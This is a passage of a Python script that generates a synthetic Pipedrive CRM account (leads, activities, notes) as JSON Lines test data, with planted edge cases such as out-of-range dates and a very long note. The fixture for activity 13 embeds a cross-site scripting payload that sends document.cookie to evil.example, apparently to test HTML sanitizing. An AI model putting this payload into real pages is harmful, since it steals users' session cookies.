            archived = i % 5 == 0
            r = rng.random()
            person = rng.randint(1, self.n_persons) if r < 0.8 else None
            org = self.person_ident(person)[3] if person else rng.randint(1, self.n_orgs)
            if r > 0.9 and person:
                org = None
            add = SNAPSHOT - 200 * DAY + (i - 1) * (170 * DAY / n) + rng.random() * DAY
            upd = self.later(add, 20)
            cf = self.custom_values("deal", base=add)
            title = f"{self.org_name(org) if org else self.person_name(person)} – Anfrage {DEAL_TOPICS[rng.randrange(len(DEAL_TOPICS))]}"
            value = {"amount": rng.choice((1000, 2500, 7500, 12000)), "currency": rng.choice(("EUR", "EUR", "CHF", "USD"))} if rng.random() < 0.6 else None
            rec = {
                "id": lid, "title": title, "owner_id": self.owner(), "creator_id": self.owner(),
                "label_ids": [self.lead_labels[rng.randrange(4)]] if rng.random() < 0.6 else [],
                "person_id": person, "organization_id": org,
                "source_name": rng.choice(("Manually created", "Manually created", "API", "Web forms", "Import")),
                "origin": "ManuallyCreated", "origin_id": None, "channel": None, "channel_id": None,
                "is_archived": archived, "was_seen": rng.random() < 0.7, "value": value,
                "expected_close_date": d(add + 60 * DAY) if rng.random() < 0.5 else None,
                "next_activity_id": None, "add_time": tl(add, rng.randrange(1000)), "update_time": tl(upd, rng.randrange(1000)),
                "visible_to": "3", "cc_email": f"{self.company_slug}+{lid}@pipedrivemail.com",
            }
            rec.update(self.v1_flat(cf))
            out.write("leads_archived" if archived else "leads", rec)
        self.out.touch("leads_archived")

    def write_activities(self) -> None:
        rng, out, n = self.rng, self.out, self.n_activities
        for aid in range(1, n + 1):
            atype = self.pick(self.act_keys, self.act_cum)
            r = rng.random()
            deal = lead = None
            if aid == 7 and self.n_deals >= 16:
                r, deal = 0.0, 16  # linked to a deleted deal
            if r < 0.55:
                deal = deal or rng.randint(1, self.n_deals)
                person = self.deal_person[deal]
                org = self.deal_org[deal]
            elif r < 0.85:
                person = rng.randint(1, self.n_persons)
                org = self.person_ident(person)[3]
            elif r < 0.95:
                person, org = 0, rng.randint(1, self.n_orgs)
            else:
                lead = self.lead_ids[rng.randrange(len(self.lead_ids))]
                person, org = 0, 0
            add = self.spread(aid, n)
            if deal:
                add = max(add, self.deal_time[deal])
            done = rng.random() < 0.6 and add < SNAPSHOT - 5 * DAY and aid not in (9, 11)
            due = add + rng.randint(0, 21) * DAY
            if aid == 9:
                due = calendar.timegm((2099, 1, 1, 0, 0, 0))
            if aid == 11:
                due = 0.0  # 1970-01-01
            has_time = atype in ("call", "meeting", "lunch", "produktdemo") and rng.random() < 0.85
            due_time = f"{rng.randint(6, 16):02d}:{rng.choice((0, 15, 30, 45)):02d}" if has_time else None
            if has_time and aid % 17 == 0:
                due_time += ":00"  # HH:MM:SS variant
            duration = (f"{rng.choice((0, 0, 1, 1, 2))}:{rng.choice((15, 30, 45)):02d}".zfill(5) if has_time else None)
            marked = self.later(due, 2) if done else None
            upd = max(marked or add, self.later(add, 10))
            deleted = aid % 60 == 0
            if deleted:
                upd = self.deleted_time()
            participants = []
            if person:
                participants.append({"person_id": person, "primary": True})
                for _ in range(rng.choice((0, 0, 0, 1, 2))):
                    other = rng.randint(1, self.n_persons)
                    if all(p["person_id"] != other for p in participants):
                        participants.append({"person_id": other, "primary": False})
            attendees = None
            if atype in ("meeting", "produktdemo") and person and rng.random() < 0.5:
                fp, lp, np_, op, _ = self.person_ident(person)
                attendees = [{"email": self.email_for(person, fp, lp, op), "name": np_, "status": rng.choice(("accepted", "noreply", "tentative")),
                              "is_organizer": False, "person_id": person, "user_id": None}]
            note = None
            if rng.random() < 0.3:
                note = NOTE_SNIPPETS[rng.randrange(len(NOTE_SNIPPETS))].format(person=self.person_name(person) if person else "Kunde")
            if aid == 13:
                note = "<p>Agenda</p><script>document.location='https://evil.example/?c='+document.cookie</script><ul><li>Preise</li></ul>"
            subject = ACTIVITY_SUBJECTS[atype][rng.randrange(len(ACTIVITY_SUBJECTS[atype]))]
            if "{first}" in subject:
                subject = subject.format(first=self.person_ident(person)[0] if person else "Team")
            location = None
            if atype in ("meeting", "lunch") and rng.random() < 0.6:
                location = self.address(self.org_ident(org)[1] if org else rng.randrange(len(CITIES)))
            conf = atype == "produktdemo" or (atype == "meeting" and rng.random() < 0.3)
            owner = self.owner()
            out.write("activities", {
                "id": aid, "subject": subject, "type": atype, "owner_id": owner, "creator_user_id": self.owner() if rng.random() < 0.3 else owner,
                "is_deleted": deleted, "add_time": t2(add), "update_time": t2(upd),
                "deal_id": deal, "lead_id": lead, "person_id": person or None, "org_id": org or None, "project_id": None,
                "due_date": d(due), "due_time": due_time, "duration": duration, "busy": atype in ("meeting", "lunch", "produktdemo"),
                "done": done, "marked_as_done_time": t2(marked) if marked else None,
                "location": location, "participants": participants, "attendees": attendees,
                "public_description": "Bitte Unterlagen mitbringen." if atype == "meeting" and rng.random() < 0.3 else "",
                "priority": PRIORITY[rng.randrange(3)]["id"] if rng.random() < 0.35 else None, "note": note,
                "conference_meeting_client": "google_meet" if conf else None,
                "conference_meeting_url": f"https://meet.google.com/{_slug(str(uuid.UUID(int=rng.getrandbits(128))))[:3]}-{aid:04d}-abc" if conf else None,
                "conference_meeting_id": f"meet-{aid}" if conf else None,
            })

    def write_notes(self) -> None:
        rng, out, n = self.rng, self.out, self.n_notes
        users = {u[0]: u for u in USERS}
        for nid in range(1, n + 1):
            r = rng.random()
            deal = person = org = 0
            lead = None
            if nid in (20, 21) and len(self.lead_ids) >= 2:
                lead = self.lead_ids[nid - 20]
            elif r < 0.35:  # deal + its person + org
                deal = rng.randint(1, self.n_deals)
                person, org = self.deal_person[deal], self.deal_org[deal]
            elif r < 0.5:
                deal = rng.randint(1, self.n_deals)
            elif r < 0.8:
                person = rng.randint(1, self.n_persons)
                if rng.random() < 0.3:
                    org = self.person_ident(person)[3]
            elif r < 0.95:
                org = rng.randint(1, self.n_orgs)
            else:
                lead = self.lead_ids[rng.randrange(len(self.lead_ids))]
                if rng.random() < 0.5:
                    person = rng.randint(1, self.n_persons)
            pname = self.person_name(person) if person else "Kunde"
            if nid == 5:
                para = ("<p>Gesprächsprotokoll Workshop – Abschnitt {i}: Anforderungen an Schnittstellen, Datenqualität, "
                        "Rollen &amp; Rechte, Migration der Altdaten (ca. 250.000 Datensätze), Schulungskonzept.</p>\n")
                content = "<h2>Workshop-Protokoll</h2>" + "".join(para.format(i=i) for i in range(1, 390))
            else:
                content = NOTE_SNIPPETS[rng.randrange(len(NOTE_SNIPPETS))].format(person=pname)
                if rng.random() < 0.2:
                    content += NOTE_SNIPPETS[rng.randrange(len(NOTE_SNIPPETS))].format(person=pname)
            if deal:
                add = max(self.deal_time[deal], self.spread(nid, n))
            else:
                add = self.spread(nid, n)
            upd = self.later(add, 15) if rng.random() < 0.3 else add
            uid = self.owner()
            u = users.get(uid)
            user = ({"email": u[2], "name": u[1], "icon_url": None, "is_you": uid == 1} if u else
                    {"email": f"user{uid}@nordlicht-systems.de", "name": f"Benutzer {uid}", "icon_url": None, "is_you": False})
            out.write("notes", {
                "id": nid, "user_id": uid, "deal_id": deal or None, "person_id": person or None, "org_id": org or None,
                "lead_id": lead, "project_id": None, "content": content, "add_time": t1(add), "update_time": t1(upd),
                "active_flag": True,
                "pinned_to_deal_flag": bool(deal) and rng.random() < 0.1,
                "pinned_to_person_flag": bool(person) and rng.random() < 0.1,
                "pinned_to_organization_flag": bool(org) and rng.random() < 0.1,
                "pinned_to_lead_flag": bool(lead) and rng.random() < 0.2,
                "pinned_to_project_flag": False,
                "last_update_user_id": uid if upd != add else None,
                "organization": {"name": self.org_name(org)} if org else None,
                "person": {"name": pname} if person else None,
                "deal": {"title": self.deal_title(deal)} if deal else None,
                "user": user,
            })

    def run(self) -> dict[str, int]:
        try:
            self.write_reference()
            self.write_organizations()
            self.write_persons()
            self.write_products()
            self.write_deals()
            self.write_leads()
            self.write_activities()
            self.write_notes()
        finally:
            self.out.close()
        return {name: self.out.counts.get(name, 0) for name in COLLECTION_FILES}


def generate_account(out_dir: Path, *, seed: int = 7, scale: int | None = None) -> dict[str, int]:
    """Write one `<collection>.jsonl` per collection into out_dir; returns the line count per file.

    scale=None writes the small hand-shaped sample account; scale=N writes roughly N records
    (persons ~40 %, organizations ~10 %, deals ~14 %, activities ~20 %, notes ~10 %, the rest
    products, deal products and leads), streaming every line straight to disk.
    """
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    for name in COLLECTION_FILES:  # do not leave stale files of an earlier, bigger run behind
        (out_dir / f"{name}.jsonl").unlink(missing_ok=True)
    return _Account(out_dir, seed, scale).run()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Generate a synthetic Pipedrive account snapshot (JSON Lines).")
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent / "pipedrive")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--records", type=int, default=None, help="scale mode: about this many records in total")
    args = parser.parse_args(argv)
    started = time.perf_counter()
    counts = generate_account(args.out, seed=args.seed, scale=args.records)
    elapsed = time.perf_counter() - started
    for name, count in counts.items():
        print(f"{name:20s} {count:>10,d}")
    print(f"{'total':20s} {sum(counts.values()):>10,d}  ({elapsed:.1f} s) -> {args.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
